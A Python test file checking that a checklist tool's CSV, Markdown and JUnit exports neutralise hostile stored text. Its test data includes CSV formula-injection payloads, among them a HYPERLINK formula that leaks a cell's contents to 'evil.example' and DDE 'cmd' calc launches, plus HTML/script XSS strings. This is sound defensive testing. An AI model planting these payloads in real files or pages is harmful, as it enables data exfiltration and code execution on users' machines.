"""Exports and reports carry hostile stored text safely: CSV formulas stay text (OWASP CSV injection),
Markdown cells show HTML and line breaks as text on one row, and JUnit XML always parses."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from xml.etree import ElementTree

import pytest

from mission_control.catalog import Catalog
from mission_control.db.database import Database
from mission_control.escaping import csv_cell, markdown_cell, xml_text
from mission_control.progress.export import render as export
from mission_control.progress.service import get_checklist
from mission_control.report.builder import build_report
from mission_control.report.render import render as render_report
from mission_control.verification.reports import to_junit
from mission_control.verification.results import ProbeResult, Status
from mission_control.verification.runner import VerificationReport
from mission_control.verification.service import finish_run, start_run
from tests.conftest import change_item

# OWASP's list of characters that make a spreadsheet cell a formula, each starting a payload.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
XML_ILLEGAL = "bell\x07 escape\x1b vertical-tab\x0b form-feed\x0c nul-free \ufffe end"
ITEMS = ("dns.failover-ttl", "dns.latency-routing", "dns.health-checks", "cognito.parity", "edge.latency")


def checklist(database: Database, catalog: Catalog):
    with database.read() as session:
        return get_checklist(session=session, catalog=catalog, environment_name="production")


def test_csv_cells_starting_with_a_formula_character_are_prefixed_with_a_quote(
    sqlite_database: Database, catalog: Catalog
) -> None:
    for item_id, formula in zip(ITEMS, FORMULAS, strict=False):
        change_item(sqlite_database, catalog, item_id, note=formula, owner=formula)
    change_item(sqlite_database, catalog, "edge.redirects", note=FORMULAS[5], owner="sre, on call")

    rows = list(csv.DictReader(io.StringIO(export(checklist(sqlite_database, catalog), "csv"))))

    by_id = {row["id"]: row for row in rows}
    assert len(rows) == 20
    for item_id, formula in zip(ITEMS, FORMULAS, strict=False):
        assert by_id[item_id]["note"] == "'" + formula  # the original, one quote ahead: nothing lost
        assert by_id[item_id]["owner"] == "'" + formula.strip()  # owners are stored trimmed
    assert by_id["edge.redirects"]["owner"] == "sre, on call"  # a comma is quoted, not split
    dangerous = [
        cell for row in rows for cell in row.values() if cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    ]
    assert dangerous == []


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("plain = text", "plain = text"),
        ("", ""),
        ("'=already quoted", "'=already quoted"),
        ("2024-06-01T12:00:00+00:00", "2024-06-01T12:00:00+00:00"),
    ],
)
def test_csv_cell_prefixes_only_formula_starts(text: str, cell: str) -> None:
    assert csv_cell(text) == cell


def test_markdown_export_escapes_html_and_keeps_every_cell_on_its_row(
    sqlite_database: Database, catalog: Catalog
) -> None:
    note = "<img src=x onerror=alert(1)> a|b\rlone CR\r\nCRLF\nLF\u2028LS & done"
    change_item(sqlite_database, catalog, "dns.failover-ttl", note=note, owner="<b>sre</b>")

    markdown = export(checklist(sqlite_database, catalog), "md")

    [row] = [line for line in markdown.split("\n") if "failover records" in line]
    assert "\r" not in markdown and "\u2028" not in markdown
    assert "<img" not in markdown and "<b>" not in markdown
    assert "&lt;b&gt;sre&lt;/b&gt;" in row
    assert "&lt;img src=x onerror=alert(1)&gt; a\\|b<br>lone CR<br>CRLF<br>LF<br>LS &amp; done" in row


def test_markdown_report_escapes_html_and_line_breaks_in_proofs(database: Database, catalog: Catalog) -> None:
    change_item(database, catalog, "dns.failover-ttl", checked=True)
    record_failing_run(database, "<script>alert(1)</script>\rsecond line")

    markdown = render_report(report(database, catalog), "md")

    [row] = [line for line in markdown.split("\n") if "failover records" in line]
    assert "<script>" not in markdown and "\r" not in markdown
    assert "&lt;script&gt;alert(1)&lt;/script&gt;<br>second line" in row


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("a\rb", "a<br>b"),
        ("a\r\nb\nc", "a<br>b<br>c"),
        ("<i>x</i> | y", "&lt;i&gt;x&lt;/i&gt; \\| y"),
        ("", ""),
    ],
)
def test_markdown_cell_escapes_html_pipes_and_every_line_break(text: str, cell: str) -> None:
    assert markdown_cell(text) == cell


def record_failing_run(database: Database, summary: str) -> None:
    with database.transaction() as session:
        run_id = start_run(session=session, environment_name="production", actor="ci")
    result = ProbeResult("dns.failover-ttl", Status.FAILING, summary, {"records": [summary]})
    verification = VerificationReport("production", "multi-region-readiness", datetime.now(UTC), (result,))
    with database.transaction() as session:
        finish_run(session=session, run_id=run_id, report=verification)


def report(database: Database, catalog: Catalog):
    with database.read() as session:
        return build_report(session=session, catalog=catalog, environment_name="production")


def test_report_junit_parses_when_a_stored_summary_holds_xml_illegal_characters(
    database: Database, catalog: Catalog
) -> None:
    change_item(database, catalog, "dns.failover-ttl", checked=True)
    record_failing_run(database, XML_ILLEGAL)

    suite = ElementTree.fromstring(render_report(report(database, catalog), "junit").split("\n", 1)[1])

    [failure] = [
        case.find("failure") for case in suite if case.get("name", "").startswith("dns.failover-ttl")
    ]
    assert failure is not None
    assert "bell\ufffd escape\ufffd vertical-tab\ufffd form-feed\ufffd" in failure.get("message", "")


def test_verify_junit_parses_when_a_summary_holds_xml_illegal_characters(catalog: Catalog) -> None:
    result = ProbeResult("dns.failover-ttl", Status.FAILING, XML_ILLEGAL + "\ud800", {"note": XML_ILLEGAL})
    verification = VerificationReport("production", catalog.id, datetime.now(UTC), (result,))

    document = to_junit(verification, catalog)

    failure = ElementTree.fromstring(document.encode("utf-8")).find(".//failure")
    assert failure is not None and failure.get("message", "").endswith("end\ufffd")


@pytest.mark.parametrize(
    "character", ["\x00", "\x08", "\x0b", "\x1f", "\ud800", "\udfff", "\ufffe", "\uffff"]
)
def test_xml_text_replaces_each_character_xml_cannot_carry(character: str) -> None:
    assert xml_text(f"a{character}b") == "a\ufffdb"


def test_xml_text_keeps_tab_line_breaks_and_astral_text() -> None:
    assert xml_text("a\tb\nc\rd 🌍 \ud7ff\ue000") == "a\tb\nc\rd 🌍 \ud7ff\ue000"
